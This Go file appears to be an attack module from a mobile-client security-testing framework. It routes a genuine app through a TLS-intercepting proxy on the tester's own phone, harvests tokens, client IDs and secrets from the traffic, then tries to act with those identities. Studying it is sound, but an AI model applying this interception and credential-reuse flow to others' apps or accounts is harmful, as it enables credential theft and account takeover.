package appside

import (
	"context"
	"errors"
	"fmt"

	"keyladder/mobileclient/attacker/attack"
	"keyladder/mobileclient/attacker/loot"
	"keyladder/mobileclient/attacker/network"
	"keyladder/mobileclient/device"
)

// TrustedProxy runs the genuine, unmodified app on a phone whose owner has installed a
// certification authority of their own, and lets it talk through a proxy that has
// certificates from there. TLS does what it promises: it protects the owner's traffic
// from everybody but the owner. The credentials that the proxy reads go into a program of one's own.
//
//keyladder:code attack-trusted-proxy
func TrustedProxy(ctx context.Context, g *attack.Given) (attack.Result, error) {
	ca, err := network.NewAuthority()
	if err != nil {
		return attack.Result{}, err
	}
	uplink, err := g.Uplink(nil)
	if err != nil {
		return attack.Result{}, err
	}
	proxy, err := network.NewInterceptor(uplink, ca)
	if err != nil {
		return attack.Result{}, err
	}
	defer proxy.Close()
	phone, err := g.Open(ctx, g.Package, func(d *device.Device) error {
		return errors.Join(d.SetNetwork(proxy.Network()), d.Trust(ca.PEM()))
	})
	if err != nil {
		return attack.Result{}, err
	}
	defer phone.Close()
	g.Say("Installed the genuine app on our own phone, which trusts our own CA and goes through our own proxy.")
	appErr := phone.SignIn(ctx)
	if appErr == nil {
		_, appErr = attack.Shown(phone.App.Accounts(ctx))
	}

	var heard loot.Loot
	for _, call := range proxy.Calls() {
		g.Say("The proxy reads: %s %s, answered with %d.", call.Request.Method, call.Request.URL.Path, call.Status)
		heard.Search(call.Sent)
		heard.Search([]byte(call.Answer))
	}
	if len(heard.Tokens) > 0 && g.ClientID != "" {
		heard.ClientIDs = append(heard.ClientIDs, g.ClientID) // which everybody knows
	}
	switch {
	case len(heard.ClientIDs) == 0 && appErr != nil:
		return attack.Stopped(appErr)
	case len(heard.Secrets.Signed) > 0:
		return g.RobUnder(ctx, &heard)
	case len(heard.ClientIDs) == 0:
		return attack.Result{}, errors.New("the app works, but nothing of use came through the proxy")
	}
	// The app may fail because the proxy has no client certificate; its key came through.
	var refused *attack.Refusal
	if appErr != nil && !errors.As(appErr, &refused) {
		return attack.Result{}, fmt.Errorf("through the proxy, %w", appErr)
	}
	g.Say("In it: %s.", &heard)
	finders := heard.OfApp()
	if len(heard.Tokens) > 0 {
		finders = append(finders, &heard.Tokens)
	}
	tries, err := g.Identities(finders...)
	if err != nil {
		return attack.Result{}, err
	}
	return attack.RobAs(ctx, g, tries)
}
